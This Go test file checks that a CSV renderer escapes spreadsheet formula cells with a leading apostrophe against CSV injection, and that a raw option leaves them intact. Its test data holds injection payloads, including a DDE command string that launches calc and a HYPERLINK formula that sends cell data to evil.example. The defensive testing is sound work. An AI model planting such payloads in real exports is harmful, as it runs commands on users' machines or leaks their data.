package render

import (
	"encoding/csv"
	"strings"
	"testing"
)

// formulaCells are cells a spreadsheet would run as formulas (OWASP's
// list: = + - @, tab and carriage return first), then cells it would not.
var formulaCells = []string{
	"=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
	`=HYPERLINK("https://evil.example/?"&A1,"Click")`,
	"Mozilla/5.0 (=x)", " =1+1", "", "'quoted", "42",
}

// formulaList prints each cell as the name of an item, in CSV.
func printFormulaCells(t *testing.T, o PrintOptions) string {
	t.Helper()
	its := make([]item, len(formulaCells))
	for i, c := range formulaCells {
		its[i] = item{name: c}
	}
	o.Format = CSV
	return printAll(t, o, nil, its...)
}

// TestCSVNeutralisesFormulas: by default a cell that starts with a formula
// character is written with a leading ' (OWASP's advice against CSV
// injection), so that a spreadsheet shows the text instead of running it;
// every other cell is as it was.
func TestCSVNeutralisesFormulas(t *testing.T) {
	got := printFormulaCells(t, PrintOptions{})
	golden(t, "csv_formulas.golden", []byte(got))
	recs, err := csv.NewReader(strings.NewReader(got)).ReadAll()
	if err != nil || len(recs) != len(formulaCells)+1 {
		t.Fatalf("does not read back: %d records, %v", len(recs), err)
	}
	for i, c := range formulaCells {
		cell := recs[i+1][0]
		if strings.ContainsAny(c[:min(1, len(c))], "=+-@\t\r") {
			if cell != "'"+strings.ReplaceAll(c, "\r", "\n") && cell != "'"+c {
				t.Errorf("cell %q reads back as %q, want it after a '", c, cell)
			}
		} else if cell != c {
			t.Errorf("cell %q reads back as %q, want it unchanged", c, cell)
		}
	}
}

// TestCSVRawKeepsFormulas: with CSVRaw (--csv-raw), for pipelines that need
// the values exactly, every cell is as the API sent it.
func TestCSVRawKeepsFormulas(t *testing.T) {
	got := printFormulaCells(t, PrintOptions{CSVRaw: true})
	golden(t, "csv_formulas_raw.golden", []byte(got))
	recs, err := csv.NewReader(strings.NewReader(got)).ReadAll()
	if err != nil || len(recs) != len(formulaCells)+1 {
		t.Fatalf("does not read back: %d records, %v", len(recs), err)
	}
	for i, c := range formulaCells {
		if cell := recs[i+1][0]; cell != c && cell != strings.ReplaceAll(c, "\r", "\n") {
			t.Errorf("cell %q reads back as %q, want it unchanged", c, cell)
		}
	}
}
